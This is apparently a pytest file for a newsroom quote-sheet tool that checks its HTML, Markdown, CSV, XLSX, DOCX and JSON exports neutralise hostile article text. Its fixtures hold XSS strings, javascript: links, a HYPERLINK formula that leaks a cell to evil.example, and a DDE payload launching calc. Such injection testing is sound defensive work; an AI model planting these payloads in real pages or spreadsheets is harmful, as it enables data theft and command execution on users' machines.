"""Article text is hostile: it must never run as script in a page or as a formula in a sheet."""

from __future__ import annotations

import csv
import re
from collections.abc import Iterator
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest

from desk.core.entities import ArticleDraft, DocumentKind, MetadataEdit, QuoteEdit, QuoteStatus
from desk.core.export import ExportFormat, QuoteSheet, build_sheet, write
from desk.core.library import Library

SCRIPT = "<script>alert(1)</script>"
FORMULAS = [
    '=HYPERLINK("https://evil.example/?"&A1,"Click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 is the count",
    "@SUM(A1:A2) matters",
]
TEXT = (
    f"The page said {SCRIPT} and then <img src=x onerror=alert(2)> too.\n\n"
    + "\n\n".join(f"“{f}” said one." for f in FORMULAS)
    + "\n\n“a [link](javascript:alert(3)) and *stars*” said two."
)


@pytest.fixture
def hostile(db_url: str) -> Iterator[QuoteSheet]:
    with Library.open(db_url) as library:
        draft = ArticleDraft(
            text=TEXT,
            raw_text=TEXT,
            title=f"Headline {SCRIPT}",
            outlet="<b>Outlet</b>",
            url="javascript:alert(4)",
            kind=DocumentKind.SOURCE,  # no detector suggestions: only our quotes
        )
        article_id = library.store(draft, "test").article_id
        assert article_id is not None
        library.update_metadata(article_id, MetadataEdit(kind=DocumentKind.ARTICLE))
        spans = [SCRIPT, *FORMULAS, "a [link](javascript:alert(3)) and *stars*"]
        for words in spans:
            start = TEXT.index(words)
            quote = library.mark_quote(article_id, start, start + len(words), by="=cmd()")
            library.edit_quote(
                quote.id,
                QuoteEdit(status=QuoteStatus.VERIFIED, note=f"@note {SCRIPT}"),
                expected_version=None,
                by="=cmd()",
            )
        library.set_setting("organisation", SCRIPT)
        yield build_sheet(library)


class _Collect(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.tags: list[str] = []
        self.hrefs: list[str | None] = []
        self.handlers: list[str] = []
        self.text = ""

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append(tag)
        self.hrefs += [v for k, v in attrs if k in ("href", "src")]
        self.handlers += [k for k, _ in attrs if k.startswith("on")]

    def handle_data(self, data: str) -> None:
        self.text += data


def test_html_shows_script_as_text_and_runs_nothing(hostile: QuoteSheet, tmp_path: Path) -> None:
    path = tmp_path / "sheet.html"
    write(hostile, ExportFormat.HTML, path)
    page = _Collect()
    page.feed(path.read_text(encoding="utf-8"))
    assert "script" not in page.tags
    assert "img" not in page.tags
    assert "b" not in page.tags
    assert page.handlers == []
    assert not any(h and h.lower().startswith("javascript") for h in page.hrefs)
    assert SCRIPT in page.text  # shown to the reader, as text
    assert "Headline <script>" in page.text


def test_markdown_shows_markup_as_text(hostile: QuoteSheet, tmp_path: Path) -> None:
    path = tmp_path / "sheet.md"
    write(hostile, ExportFormat.MD, path)
    text = path.read_text(encoding="utf-8")
    assert "<script" not in text
    assert "<img" not in text
    assert "<b>" not in text
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in text
    assert "(javascript:" not in text.replace("\\[link\\](javascript:", "")
    assert not re.search(r"(?<!\\)\[link\]", text)


def test_csv_cells_never_start_a_formula(hostile: QuoteSheet, tmp_path: Path) -> None:
    path = tmp_path / "sheet.csv"
    write(hostile, ExportFormat.CSV, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.reader(handle))
    cells = [cell for row in rows[1:] for cell in row]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    quotes = [row[rows[0].index("quote")] for row in rows[1:]]
    for formula in FORMULAS:
        assert "'" + formula in quotes
    assert all(row[rows[0].index("checked_by")] == "'=cmd()" for row in rows[1:])


def test_xlsx_cells_are_text_never_formulas(hostile: QuoteSheet, tmp_path: Path) -> None:
    cells = _xlsx_cells(hostile, tmp_path)
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert {c.value for c in risky} >= {*FORMULAS, "=cmd()"}
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_docx_keeps_markup_as_text(hostile: QuoteSheet, tmp_path: Path) -> None:
    from docx import Document

    path = tmp_path / "sheet.docx"
    write(hostile, ExportFormat.DOCX, path)
    document = Document(str(path))
    cells = [c.text for t in document.tables for r in t.rows for c in r.cells]
    assert f"“{SCRIPT}”" in cells
    assert "javascript:alert(4)" not in [r.target_ref for r in document.part.rels.values()]


# -- variants: other outlets' wording is article text too ------------------------------------

STATEMENT = "We will rebuild the north pier before the winter storms arrive, and we will pay for it"
FORMULA_VARIANT = '=HYPERLINK("https://evil.example","x") ' + STATEMENT.replace("winter", "autumn")
SCRIPT_VARIANT = STATEMENT.replace("winter", SCRIPT)


@pytest.fixture
def hostile_variants(db_url: str) -> Iterator[QuoteSheet]:
    """One statement in three articles, matched by the library: a variant that starts with a
    formula (from an outlet whose name is one) and a variant holding a script."""
    with Library.open(db_url) as library:
        reports = [
            ("Harbour Times", STATEMENT),
            ("=Evil Wire", FORMULA_VARIANT),
            ("<b>Script Post</b>", SCRIPT_VARIANT),
        ]
        for outlet, words in reports:
            text = f"The mayor spoke.\n\n“{words},” she said."
            draft = ArticleDraft(
                text=text, raw_text=text, title=outlet, outlet=outlet, kind=DocumentKind.SOURCE
            )
            article_id = library.store(draft, outlet).article_id
            assert article_id is not None
            library.update_metadata(
                article_id, MetadataEdit(kind=DocumentKind.ARTICLE, url="javascript:alert(5)")
            )
            start = text.index(words)
            library.mark_quote(article_id, start, start + len(words), by="Ana")
        sheet = build_sheet(library)
        harbour = next(e for e in sheet.entries if e.article.outlet == "Harbour Times")
        assert {v.text for v in harbour.variants} == {FORMULA_VARIANT, SCRIPT_VARIANT}
        yield sheet


def test_variant_html_shows_script_as_text(hostile_variants: QuoteSheet, tmp_path: Path) -> None:
    path = tmp_path / "sheet.html"
    write(hostile_variants, ExportFormat.HTML, path)
    source = path.read_text(encoding="utf-8")
    assert "<script" not in source
    page = _Collect()
    page.feed(source)
    assert "script" not in page.tags
    assert "b" not in page.tags
    assert page.handlers == []
    assert not any(h and h.lower().startswith("javascript") for h in page.hrefs)
    assert "script>alert(1)</script>" in page.text  # shown as text, in the marked diff
    assert "<b>Script Post</b>" in page.text
    assert '=HYPERLINK("https://evil.example","x")' in page.text


def test_variant_markdown_shows_markup_as_text(
    hostile_variants: QuoteSheet, tmp_path: Path
) -> None:
    path = tmp_path / "sheet.md"
    write(hostile_variants, ExportFormat.MD, path)
    text = path.read_text(encoding="utf-8")
    assert "<script" not in text
    assert "<b>" not in text
    assert "alert(1)&lt;/script&gt;" in text
    assert "(javascript:" not in text


def test_variant_csv_cells_never_start_a_formula(
    hostile_variants: QuoteSheet, tmp_path: Path
) -> None:
    path = tmp_path / "sheet.csv"
    write(hostile_variants, ExportFormat.CSV, path)
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    cells = [cell for row in rows for cell in row.values()]
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@")]
    harbour = next(r for r in rows if r["outlet"] == "Harbour Times")
    assert f"'=Evil Wire: {FORMULA_VARIANT}" in harbour["variants"].split("\n")
    assert f"<b>Script Post</b>: {SCRIPT_VARIANT}" in harbour["variants"].split("\n")
    evil = next(r for r in rows if r["outlet"] == "'=Evil Wire")
    assert evil["quote"] == "'" + FORMULA_VARIANT


def test_variant_xlsx_cells_are_text_never_formulas(
    hostile_variants: QuoteSheet, tmp_path: Path
) -> None:
    cells = _xlsx_cells(hostile_variants, tmp_path)
    variants = [c for c in cells if isinstance(c.value, str) and FORMULA_VARIANT in c.value]
    assert any(c.value.startswith("=Evil Wire: ") for c in variants)  # exact wording kept
    risky = [c for c in cells if isinstance(c.value, str) and c.value[:1] in "=+-@"]
    assert risky
    assert all(c.data_type == "s" and c.quotePrefix for c in risky)


def test_variant_docx_and_json_keep_the_wording_as_text(
    hostile_variants: QuoteSheet, tmp_path: Path
) -> None:
    import json

    from docx import Document

    path = tmp_path / "sheet.docx"
    write(hostile_variants, ExportFormat.DOCX, path)
    document = Document(str(path))
    elsewhere = [
        r.cells[1].text for t in document.tables for r in t.rows if r.cells[0].text == "Elsewhere"
    ]
    assert any('=HYPERLINK("https://evil.example","x")' in text for text in elsewhere)
    assert any("script>alert(1)</script>" in text for text in elsewhere)
    assert "javascript:alert(5)" not in [r.target_ref for r in document.part.rels.values()]

    path = tmp_path / "sheet.json"
    write(hostile_variants, ExportFormat.JSON, path)
    data = json.loads(path.read_text(encoding="utf-8"))
    texts = {v["text"] for q in data["quotes"] for v in q["variants"]}
    assert {FORMULA_VARIANT, SCRIPT_VARIANT} <= texts


def _xlsx_cells(sheet: QuoteSheet, tmp_path: Path) -> list[Any]:
    """The data cells of ``sheet`` written as XLSX, after checking no worksheet has a formula."""
    import zipfile

    from openpyxl import load_workbook

    path = tmp_path / "sheet.xlsx"
    write(sheet, ExportFormat.XLSX, path)
    with zipfile.ZipFile(path) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert not re.search(r"<f[ >]", archive.read(name).decode())
    book = load_workbook(path)
    return [c for row in book["Quotes"].iter_rows(min_row=2) for c in row]
